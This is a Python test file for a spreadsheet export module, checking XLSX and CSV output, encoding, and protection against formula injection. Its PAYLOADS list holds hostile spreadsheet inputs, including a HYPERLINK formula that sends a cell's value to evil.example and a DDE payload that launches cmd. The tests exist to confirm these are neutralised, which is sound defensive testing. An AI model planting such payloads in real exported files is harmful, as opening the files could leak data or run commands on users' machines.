import io

from openpyxl import load_workbook

from luoshi.core.exports import Export


class Sample(Export):
    filename = "样例"
    sheet_title = "样例表"
    headers = ["单位", "数量"]

    def rows(self):
        yield ["商务局", 3]
        yield [["甲", "乙"], None]


def test_xlsx_has_the_header_the_rows_and_a_frozen_header():
    filename, mime, data = Sample().render("xlsx")
    assert filename == "样例.xlsx" and "spreadsheetml" in mime
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "样例表"
    assert list(sheet.iter_rows(values_only=True)) == [("单位", "数量"), ("商务局", 3), ("甲、乙", None)]
    assert sheet.freeze_panes == "A2"


def test_csv_is_utf8_with_bom_and_empty_for_none():
    filename, _, data = Sample().render("csv")
    assert filename == "样例.csv"
    assert data.decode("utf-8") == "\ufeff单位,数量\r\n商务局,3\r\n甲、乙,\r\n"


PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]


class Hostile(Export):
    filename = "恶意"
    headers = ["=1+1 表头", "数量"]

    def rows(self):
        for payload in PAYLOADS:
            yield [payload, -5]
        yield [["=A1", "乙"], 2.5]


def test_xlsx_writes_text_that_looks_like_a_formula_as_text_and_numbers_as_numbers():
    _, _, data = Hostile().render("xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # Without lxml, openpyxl's XML reader turns the carriage return into a line feed; either way the cell is text.
    values = [sheet.cell(row=i, column=1).value for i in range(2, 8)]
    assert [v.replace("\r", "\n") for v in values] == [p.replace("\r", "\n") for p in PAYLOADS]
    assert sheet["A1"].value == "=1+1 表头" and sheet["A1"].data_type == "s"
    assert sheet["B2"].value == -5 and sheet["B2"].data_type == "n"
    assert sheet["A8"].value == "=A1、乙" and sheet["B8"].value == 2.5


def test_csv_prefixes_every_cell_that_a_spreadsheet_would_read_as_a_formula():
    import csv

    _, _, data = Hostile().render("csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["'=1+1 表头", "数量"]
    assert [r[0] for r in rows[1:7]] == ["'" + p for p in PAYLOADS]
    assert all(r[1] == "-5" for r in rows[1:7])  # numbers stay numbers, negative ones too
    assert rows[7] == ["'=A1、乙", "2.5"]


def test_csv_leaves_ordinary_text_alone():
    import csv

    class Plain(Export):
        headers = ["名称"]

        def rows(self):
            yield ["商务局 = 牵头"]
            yield ["2020-04"]

    _, _, data = Plain().render("csv")
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == [["名称"], ["商务局 = 牵头"], ["2020-04"]]


def test_a_download_in_a_format_other_than_xlsx_or_csv_is_not_found():
    import pytest
    from django.http import Http404

    from luoshi.core.exports import http_response

    assert http_response(Sample(), "csv")["Content-Disposition"].endswith("%E6%A0%B7%E4%BE%8B.csv")
    with pytest.raises(Http404, match="不支持的导出格式"):
        http_response(Sample(), "pdf")


def test_the_command_line_writes_the_format_its_file_names(tmp_path):
    import pytest

    from luoshi.core.exports import write_file

    write_file(Sample(), tmp_path / "样例.csv")
    assert (tmp_path / "样例.csv").read_bytes() == Sample().render("csv")[2]
    write_file(Sample(), tmp_path / "样例")  # no extension: xlsx
    assert load_workbook(io.BytesIO((tmp_path / "样例").read_bytes())).active.title == "样例表"
    with pytest.raises(ValueError, match="文件扩展名应为 .xlsx 或 .csv"):
        write_file(Sample(), tmp_path / "样例.pdf")
    assert not (tmp_path / "样例.pdf").exists()
